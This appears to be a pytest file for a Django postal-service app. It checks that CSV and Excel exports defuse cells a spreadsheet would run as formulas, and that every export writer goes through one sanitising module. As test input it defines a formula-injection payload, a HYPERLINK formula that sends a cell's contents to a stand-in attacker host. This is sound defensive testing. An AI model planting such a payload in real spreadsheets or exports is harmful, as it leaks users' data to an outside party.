"""Every CSV and Excel export defuses cells a spreadsheet would run as formulas
(`core.exports`), read back from the file a user downloads."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from postdesk.core.exports import formula_like, safe_row, spreadsheet_safe
from postdesk.core.periods import Month
from postdesk.workorders.tests.conftest import act, make_order  # noqa: F401 (fixtures)

PACKAGE = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'

#: modules that write CSV without going through core.exports, and why that is right
NOT_EXPORTS = {
    "tracking/parsing.py": "joins an input line's fields back into the line it was",
    "tracking/demo.py": "writes the demo centre's own import file (input, not an export)",
    "routing/demo.py": "writes the demo centre's service-area table (input, not an export)",
}
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|import xlsxwriter|import openpyxl")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        (-2, -2),  # numbers stay numbers
        (None, None),
    ],
)
def test_spreadsheet_safe(value, cell):
    assert spreadsheet_safe(value) == cell
    assert formula_like(value) is (cell != value)


def test_every_csv_or_excel_writer_goes_through_core_exports():
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = path.relative_to(PACKAGE).as_posix()
        if "/tests/" in f"/{relative}" or relative.startswith("core/exports"):
            continue
        text = path.read_text(encoding="utf-8")
        if not WRITERS.search(text) or relative in NOT_EXPORTS:
            continue
        if "postdesk.core.exports import" not in text:
            offenders.append(relative)
    assert not offenders, f"CSV/Excel writers outside core.exports: {offenders}"
    # the list of exceptions stays true: each still writes CSV
    for relative in NOT_EXPORTS:
        assert WRITERS.search((PACKAGE / relative).read_text(encoding="utf-8")), relative


def test_a_made_up_writer_is_found(tmp_path):
    assert WRITERS.search("w = csv.writer(out)\n")
    assert WRITERS.search("import xlsxwriter\n")
    assert safe_row([EVIL, 3]) == ["'" + EVIL, 3]


@pytest.mark.django_db(transaction=True)
def test_rejected_import_lines_csv_defuses_formulas(tmp_path):
    from postdesk.tracking.models import ImportRun
    from postdesk.tracking.services import rejected_lines_csv, tracking_import

    path = tmp_path / "events.csv"
    header = (
        "waybill_no,event_time,event_code,office_code,office_name,"
        "recorded_at,operator,reason,signer,description\n"
    )
    bad = "=1+2,2024-03-04T08:00:00,DELIVERED,325000,,,,,,"
    path.write_text(header + bad + "\n", encoding="utf-8")
    tracking_import(path=path)
    run = ImportRun.objects.get()
    rows = list(csv.reader(io.StringIO(rejected_lines_csv(run=run))))
    assert rows[0] == ["line", "reason", "text"]
    assert len(rows) == 2 and rows[1][0] == "2"
    assert rows[1][2] == "'" + bad
    assert not any(formula_like(cell) for row in rows for cell in row)


def _sheet_cells(book: zipfile.ZipFile, strings: list[str]) -> dict[str, tuple[str, str]]:
    """text -> (cell reference, style index) of every shared-string cell of the workbook,
    and no cell of any sheet holds a formula."""
    cells = {}
    for name in book.namelist():
        if not name.startswith("xl/worksheets/sheet"):
            continue
        xml = book.read(name).decode()
        assert "<f>" not in xml and "<f " not in xml, name
        for ref, attrs, value in re.findall(r'<c r="(\w+)"([^>]*)><v>(\d+)</v></c>', xml):
            if 't="s"' in attrs:
                style = re.search(r's="(\d+)"', attrs)
                cells[strings[int(value)]] = (ref, style.group(1) if style else "0")
    return cells


@pytest.mark.django_db
def test_month_report_excel_keeps_a_formula_like_unit_name_as_text(
    make_order,  # noqa: F811
    act,  # noqa: F811
    client_for,
    org,
):
    from postdesk.org.models import Unit

    order = make_order("complaint")
    act(order, "agent1", "dispatch", unit="WZ-LC01")
    Unit.objects.filter(code="WZ-LC01").update(name=EVIL)

    response = client_for("director1").get(f"/reports/month.xlsx?month={Month.current()}")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        shared = book.read("xl/sharedStrings.xml").decode()
        strings = [
            re.sub(r"<[^>]+>", "", s)
            .replace("&quot;", '"')
            .replace("&amp;", "&")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            for s in re.findall(r"<si>(.*?)</si>", shared, flags=re.S)
        ]
        cells = _sheet_cells(book, strings)
        styles = book.read("xl/styles.xml").decode()
    assert EVIL in cells, sorted(cells)  # the name exactly as it is, as text
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, flags=re.S).group(1)
    xf = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs, flags=re.S)
    # Excel keeps the name text even when the cell is edited; no other cell is touched
    quoted = {text for text, (_ref, style) in cells.items() if 'quotePrefix="1"' in xf[int(style)]}
    assert quoted == {text for text in cells if formula_like(text)} == {EVIL}
    assert len(cells) > 20
